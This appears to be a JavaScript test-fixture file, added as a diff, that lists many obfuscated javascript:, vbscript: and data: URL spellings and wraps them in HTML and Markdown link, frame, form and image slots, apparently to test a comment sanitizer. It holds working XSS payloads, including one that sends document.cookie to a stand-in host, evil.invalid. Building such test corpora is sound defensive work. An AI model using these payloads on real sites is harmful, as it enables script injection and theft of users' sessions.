@@ -1,0 +1,156 @@
+// URLs that run or that lead where comments must not, in every place that takes one.
+
+const decimal = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
+const padded = (text) => [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
+const hexadecimal = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
+const percent = (text) => [...text].map((c) => `%${c.codePointAt(0).toString(16)}`).join('');
+
+// Spellings of `javascript:` that some browser, parser or filter has taken for it.
+export const SCRIPT_URLS = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  ' javascript:alert(1)',
+  '\tjavascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  '\u001fjavascript:alert(1)',
+  '\u0000javascript:alert(1)',
+  '\u00a0javascript:alert(1)',
+  '\ufeffjavascript:alert(1)',
+  '\u3000javascript:alert(1)',
+  '\u2028javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\r\nscript:alert(1)',
+  'java\u0000script:alert(1)',
+  'java\u00adscript:alert(1)',
+  'java\u200bscript:alert(1)',
+  'javascript\t:alert(1)',
+  'javascript :alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript&#58;alert(1)',
+  'javascript&#x3a;alert(1)',
+  'javascript&#x0000003A;alert(1)',
+  'java&Tab;script:alert(1)',
+  'java&NewLine;script:alert(1)',
+  'java&#9;script&colon;alert&lpar;1&rpar;',
+  'java&#10;script:alert(1)',
+  'java&#x0d;script:alert(1)',
+  '&#1;javascript:alert(1)',
+  '&#14;&#32;javascript:alert(1)',
+  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)',
+  'j&#97v&#97script&#x3A;&#97lert(1)',
+  decimal('javascript:alert(1)'),
+  padded('javascript:alert(1)'),
+  hexadecimal('javascript:alert(1)'),
+  percent('javascript:alert(1)'),
+  `javascript:${percent('alert(1)')}`,
+  '%6Aavascript:alert(1)',
+  'javascript%3Aalert(1)',
+  'javascript\\:alert(1)',
+  'javascript\\x3aalert(1)',
+  '\\u006aavascript:alert(1)',
+  'javascript://%0aalert(1)',
+  'javascript://example.org/%0D%0Aalert(1)',
+  'javascript:/*https://example.org/*/alert(1)',
+  'javascript:https://example.org/;alert(1)',
+  'javascript:"<svg onload=alert(1)>"',
+  'javascript:void(alert(1))',
+  'javascript:alert(1)//https://',
+  'javascript:alert`1`',
+  'javascript:eval(atob("YWxlcnQoMSk="))',
+  'javascript:fetch("//evil.invalid/"+document.cookie)',
+  'feed:javascript:alert(1)',
+  'view-source:javascript:alert(1)',
+  'jar:javascript:alert(1)!/',
+  'https:javascript:alert(1)',
+  'x-javascript:alert(1)',
+  'livescript:alert(1)',
+  'mocha:alert(1)',
+  'vbscript:msgbox(1)',
+  'VBScript:MsgBox(1)',
+  'vb\tscript:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:text/html;charset=utf-16,%3C%00s%00c%00r%00i%00p%00t%00%3E%00',
+  'data:,<script>alert(1)</script>',
+  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
+  'data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  'data&colon;text/html,<script>alert(1)</script>',
+  ' data:text/html,<script>alert(1)</script>',
+  'blob:https://example.org/00000000-0000-0000-0000-000000000000',
+  'filesystem:https://example.org/temporary/x.html',
+  'file:///etc/passwd',
+  'about:blank#<script>alert(1)</script>',
+  'chrome://settings/',
+  'intent://scan/#Intent;scheme=zxing;end',
+  'ms-settings:privacy',
+  'tel:+441632960000',
+  'sms:+441632960000?body=x',
+  'ftp://evil.invalid/x',
+  'ws://evil.invalid/',
+  '//evil.invalid/x',
+  '\\\\evil.invalid\\x',
+  '/\\evil.invalid/x',
+  'https:evil.invalid',
+  'https:/evil.invalid',
+  'https:///evil.invalid',
+  'http://[::1',
+  'https://user:password@evil.invalid/',
+  'https://example.org@evil.invalid/',
+  'https://evil.invalid/\u202egpj.exe',
+  'https://evil.invalid/"onmouseover="alert(1)',
+  'https://evil.invalid/\'onmouseover=\'alert(1)',
+  'https://evil.invalid/?"><script>alert(1)</script>',
+  'https://evil.invalid/#<img src=x onerror=alert(1)>',
+  'https://evil.invalid/`onmouseover=alert(1)',
+  'https://xn--80ak6aa92e.com/',
+  'https://аррӏе.com/',
+  'mailto:x@example.org?subject=<script>alert(1)</script>',
+  'mailto:"><script>alert(1)</script>@example.org',
+  'mailto:x@example.org%0d%0aBcc:y@example.org',
+  '?delete=1',
+  '#c-1',
+  '../../../../etc/passwd',
+];
+
+// Places of HTML that take a URL.
+const PLACES = [
+  (url) => `<a href="${url}">a link</a>`,
+  (url) => `<a href='${url}' target=_blank>a link</a>`,
+  (url) => `<iframe src="${url}"></iframe>`,
+  (url) => `<form action="${url}"><button>Send</button></form>`,
+  (url) => `<form><button formaction="${url}">Send</button></form>`,
+  (url) => `<object data="${url}"></object>`,
+  (url) => `<embed src="${url}">`,
+  (url) => `<svg><a xlink:href="${url}"><text y=20>a link</text></a></svg>`,
+  (url) => `<math href="${url}">a link</math>`,
+  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url) => `<base href="${url}//">`,
+  (url) => `<img src="${url}">`,
+];
+
+// Places of Markdown that take a URL.
+const MARKDOWN_PLACES = [
+  (url) => `[a link](${url})`,
+  (url) => `[a link](<${url}>)`,
+  (url) => `[a link][x]\n\n[x]: ${url}`,
+  (url) => `[a link][x]\n\n[x]: <${url}> "a title"`,
+  (url) => `<${url}>`,
+  (url) => `![an image](${url})`,
+  (url) => `[![an image](x)](${url} 'a title')`,
+];
+
+export function urls() {
+  const all = [];
+  const plain = 'javascript:alert(1)';
+  all.push(...PLACES.map((place) => place(plain)), ...MARKDOWN_PLACES.map((place) => place(plain)));
+  SCRIPT_URLS.forEach((url, i) => {
+    all.push(`<a href="${url}">a link</a>`, `[a link](${url})`, `<${url}>`);
+    all.push(PLACES[i % PLACES.length](url), MARKDOWN_PLACES[i % MARKDOWN_PLACES.length](url));
+  });
+  all.push(...SCRIPT_URLS);
+  return all;
+}
